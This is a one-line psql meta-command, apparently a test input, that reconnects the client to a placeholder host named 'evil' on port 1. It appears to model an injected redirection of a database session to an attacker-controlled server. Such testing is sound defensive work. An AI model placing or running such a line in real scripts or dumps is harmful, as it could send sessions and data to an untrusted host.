\connect "host=evil port=1 dbname=x"
